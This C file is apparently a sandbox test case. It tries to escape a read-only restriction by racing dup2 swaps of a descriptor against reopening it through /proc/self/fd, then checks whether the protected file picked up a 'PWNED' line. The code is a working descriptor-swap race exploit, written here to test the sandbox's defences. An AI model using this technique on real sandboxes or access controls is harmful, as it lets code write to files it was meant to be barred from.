/* Escape attempt: reopen a descriptor for writing through /proc/self/fd/N while a thread
 * swaps N (dup2) between a writable file and the read-only one for ~2 s. The checked
 * descriptor is writable; if the swapped one is reopened, T/ro/ro.txt changes (the runner
 * compares it). */
#include "attack.h"
#include <pthread.h>
#include <sys/syscall.h>

static int fd_ok, fd_ro;
static volatile int stop;
enum { N = 50 };

static void* flipper(void* arg) {
  (void)arg;
  while (!stop) {
    dup2(fd_ro, N);
    dup2(fd_ok, N);
  }
  return NULL;
}

int main(int argc, char** argv) {
  fixture(argc, argv);
  char ok[2300], ro[2300], link[64];
  snprintf(ok, sizeof ok, "%s/ok.txt", WS);
  snprintf(ro, sizeof ro, "%s/ro.txt", RO);
  snprintf(link, sizeof link, "/proc/self/fd/%d", N);
  fd_ok = open(ok, O_RDWR | O_CREAT, 0644);
  fd_ro = open(ro, O_RDONLY);
  if (fd_ok < 0 || fd_ro < 0) { perror("open"); return 2; }
  dup2(fd_ok, N);
  pthread_t th;
  pthread_create(&th, NULL, flipper, NULL);
  long opens = 0;
  for (double end = now() + 2; now() < end;) {
    int fd = (int)syscall(SYS_openat, AT_FDCWD, link, O_WRONLY | O_APPEND);
    if (fd < 0) continue;
    ++opens;
    write(fd, "PWNED\n", 6);
    close(fd);
  }
  stop = 1;
  pthread_join(th, NULL);
  char buf[64] = {0};
  int r = open(ro, O_RDONLY);
  ssize_t n = r >= 0 ? read(r, buf, sizeof buf - 1) : 0;
  int changed = n > 0 && strstr(buf, "PWNED") != NULL;
  fprintf(stderr, "file_fd_swap: %ld opens, read-only file %s\n", opens, changed ? "CHANGED" : "intact");
  return changed;
}
